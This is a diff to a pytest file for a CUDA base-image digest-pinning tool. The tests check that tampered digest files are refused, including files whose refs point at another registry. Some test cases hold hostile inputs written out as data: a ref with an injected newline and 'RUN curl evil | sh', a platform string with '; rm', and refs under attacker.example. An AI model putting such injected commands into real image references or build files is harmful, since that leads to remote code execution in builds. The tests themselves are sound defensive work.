@@ -143,7 +143,7 @@ def test_pins_round_trip_merge_and_validate(tmp_path):
     first = pin.BasePin(TAG, f"{TAG}@{DIGEST}", DIGEST, INDEX, ("linux/amd64",), "2026-11-30T22:00:00Z")
     pin.write_pins(str(path), [first])
     devel = TAG.replace("base", "devel")
-    second = pin.BasePin(devel, f"r.local/{devel}@{OTHER}", OTHER, "", (), "2026-11-30T23:00:00Z")
+    second = pin.BasePin(devel, f"{devel}@{OTHER}", OTHER, "", (), "2026-11-30T23:00:00Z")
     merged = pin.write_pins(str(path), [second])
     assert merged == {TAG: first, devel: second}
     assert pin.read_pins(str(path)) == merged
@@ -172,14 +172,14 @@ def entry(**overrides):
     ("doc", "problem"),
     [
         ({"schema": 2, "images": {}}, "schema"),
-        ({"schema": 1, "images": {TAG: entry(extra=1)}}, "Additional properties"),
+        ({"schema": 1, "images": {TAG: entry(extra=1)}}, "additionalProperties rule"),
         ({"schema": 1, "images": {"nvidia/cuda": entry()}}, "does not match"),  # a key without a tag
         ({"schema": 1, "images": {TAG: entry(digest="sha256:1")}}, "does not match"),
-        ({"schema": 1, "images": {TAG: entry(ref=f"{TAG}@{DIGEST}\nRUN curl evil | sh")}}, "does not match"),
-        ({"schema": 1, "images": {TAG: entry(ref=f"evil/image:latest@{DIGEST}")}}, "is not"),  # another image
-        ({"schema": 1, "images": {TAG: entry(ref=f"{TAG}@{OTHER}")}}, "is not"),  # another digest
+        ({"schema": 1, "images": {TAG: entry(ref=f"{TAG}@{DIGEST}\nRUN curl evil | sh")}}, "control character U+000A"),
+        ({"schema": 1, "images": {TAG: entry(ref=f"evil/image:latest@{DIGEST}")}}, "does not match"),  # another image
+        ({"schema": 1, "images": {TAG: entry(ref=f"{TAG}@{OTHER}")}}, "ref is not"),  # another digest
         ({"schema": 1, "images": {TAG: entry(platforms=["linux/amd64; rm"])}}, "does not match"),
-        ([], "is not of type"),
+        ([], "type rule"),
     ],
 )
 def test_a_tampered_file_is_refused(tmp_path, doc, problem):
@@ -192,7 +192,7 @@ def test_a_tampered_file_is_refused(tmp_path, doc, problem):
     assert "provision pin-base" in info.value.hint
 
 
-@pytest.mark.parametrize(("content", "problem"), [(None, "no such file"), ("{", "not a JSON base-digest file")])
+@pytest.mark.parametrize(("content", "problem"), [(None, "no such file"), ("{", "is not JSON")])
 def test_a_missing_or_broken_file_is_refused(tmp_path, content, problem):
     path = tmp_path / "base-digests.json"
     if content is not None:
@@ -337,9 +337,13 @@ def test_pin_base_writes_and_warns(cli, monkeypatch, plan_file, tmp_path):
     assert r.err.count("warning: ") == 1, "one warning for the plan's tags"
     cuda = plan["cuda"]["version"]
     assert f"warning: the plan's {len(tags)} nvidia/cuda {cuda} tags: past NVIDIA's end of life (" in r.err
-    pins = pin.read_pins(str(out))
+    pins = pin.read_pins(str(out), "127.0.0.1:5000")
     assert sorted(pins) == sorted(tags)
     assert pins[plan["images"]["base"]].ref == f"127.0.0.1:5000/{plan['images']['base']}@{DIGEST}"
+    # read without the mirror it was pinned through, the file is refused
+    with pytest.raises(InputError, match="from Docker Hub") as info:
+        pin.read_pins(str(out))
+    assert info.value.hint == "pass the --registry the file was pinned through"
 
 
 def test_pin_base_for_one_variant(cli, monkeypatch, plan_file, tmp_path):
@@ -369,7 +373,7 @@ def test_pin_base_keeps_a_broken_file_and_asks_nothing(cli, monkeypatch, plan_fi
     out.write_text('{"schema": 1, "images": {"x": 1}}')
     r = cli("pin-base", "--plan", str(plan_file), "--out", str(out))
     assert r.code == 2
-    assert r.err.startswith(f"error: {out}: images: ")
+    assert r.err.startswith(f"error: --out {out}: images: ")
     api.inspect_distribution.assert_not_called()
     assert out.read_text() == '{"schema": 1, "images": {"x": 1}}'
 
@@ -393,7 +397,7 @@ def test_pin_base_without_an_engine(cli, monkeypatch, plan_file, tmp_path):
     ("digests", "extra", "message"),
     [
         ('{"schema": 1, "images": {}}', [], "has no digest for BASE"),
-        ("[]", [], "is not of type 'object'"),
+        ("[]", [], "does not match the base-digest schema (its type rule)"),
         (
             '{"schema": 1, "images": {}}',
             ["--base-image", "nvidia/cuda:x"],
@@ -433,4 +437,70 @@ def test_pin_base_refuses_a_missing_directory_first(cli, monkeypatch, plan_file,
     assert r.code == 2
     assert f"error: --out {target}: the directory {target.parent} does not exist" in r.err
     assert not (tmp_path / "missing").exists()
+    api.inspect_distribution.assert_not_called()
+
+
+# -- issue 22: a base-digest file names no other registry than the plan's repository's -------------------
+def attacker_file(path: Path, tag: str, registry: str = "attacker.example") -> None:
+    """The issue's payload: the plan's key, the ref under another registry (schema-valid, digest consistent)."""
+    path.write_text(json.dumps({"schema": 1, "images": {tag: entry(ref=f"{registry}/{tag}@{DIGEST}")}}))
+
+
+@pytest.mark.parametrize("registry", ["attacker.example", "attacker.example/nvidia", "127.0.0.1:5000/other"])
+def test_build_refuses_a_base_from_another_registry(cli, monkeypatch, plan_file, tmp_path, registry):
+    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")  # exit 4 if it got that far
+    base = json.loads(plan_file.read_text())["images"]["base"]
+    digests = tmp_path / "base-digests.json"
+    attacker_file(digests, base, registry)
+    args = ["build", "--plan", str(plan_file), "--variant", "base", "--base-digests", str(digests)]
+    r = cli(*args, "--image-lock", str(tmp_path / "l.json"))
+    assert r.code == 2, r
+    assert f"ref is not {base} from Docker Hub (nvidia/cuda) at the recorded digest" in r.err
+    # a mirror the user names is accepted, and only that one
+    r = cli(*args, "--registry", "127.0.0.1:5000", "--image-lock", str(tmp_path / "l.json"))
+    assert r.code == 2, r
+    assert f"ref is not {base} from the mirror 127.0.0.1:5000" in r.err
+    assert not (tmp_path / "l.json").exists()
+
+
+def test_build_takes_a_base_from_the_mirror_it_names(cli, monkeypatch, plan_file, tmp_path):
+    """Pinned through 127.0.0.1:5000, given with --registry 127.0.0.1:5000: the file passes, and the
+    build goes on to the engine (exit 4 here: none answers)."""
+    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")
+    base = json.loads(plan_file.read_text())["images"]["base"]
+    digests = tmp_path / "base-digests.json"
+    attacker_file(digests, base, "127.0.0.1:5000")
+    args = ["build", "--plan", str(plan_file), "--variant", "base", "--base-digests", str(digests)]
+    r = cli(*args, "--registry", "127.0.0.1:5000", "--image-lock", str(tmp_path / "l.json"))
+    assert r.code == 4, r
+    r = cli("build", "--plan", str(plan_file), "--registry", "127.0.0.1:5000")
+    assert r.code == 2, r
+    assert "--registry applies to --base-digests" in r.err
+
+
+def test_a_key_of_another_repository_is_refused(tmp_path):
+    """The schema's key pattern is nvidia/cuda:<tag>, and the code holds keys to it without the schema too."""
+    path = tmp_path / "d.json"
+    evil = "attacker.example/cuda:12.4.1-base-ubuntu22.04"
+    doc = {"schema": 1, "images": {evil: entry(ref=f"{evil}@{DIGEST}")}}
+    path.write_text(json.dumps(doc))
+    with pytest.raises(InputError, match="does not match the base-digest schema"):
+        pin.read_pins(str(path))
+    with mock.patch.object(pin, "_validator") as validator:
+        validator.return_value.iter_errors.return_value = iter(())
+        with pytest.raises(InputError, match="a key is not an nvidia/cuda tag"):
+            pin.check_pins(doc, "d")
+
+
+def test_pin_base_keeps_to_one_source(cli, monkeypatch, plan_file, tmp_path):
+    """A file pinned from Docker Hub is not merged with pins through a mirror (one file, one source)."""
+    base = json.loads(plan_file.read_text())["images"]["base"]
+    out = tmp_path / "base-digests.json"
+    out.write_text(json.dumps({"schema": 1, "images": {base: entry(ref=f"{base}@{DIGEST}")}}))
+    api = engine_answers(monkeypatch, {f"127.0.0.1:5000/{base}": distribution()})
+    r = cli(
+        "pin-base", "--plan", str(plan_file), "--variant", "base", "--registry", "127.0.0.1:5000", "--out", str(out)
+    )
+    assert r.code == 2, r
+    assert "from the mirror 127.0.0.1:5000" in r.err
     api.inspect_distribution.assert_not_called()
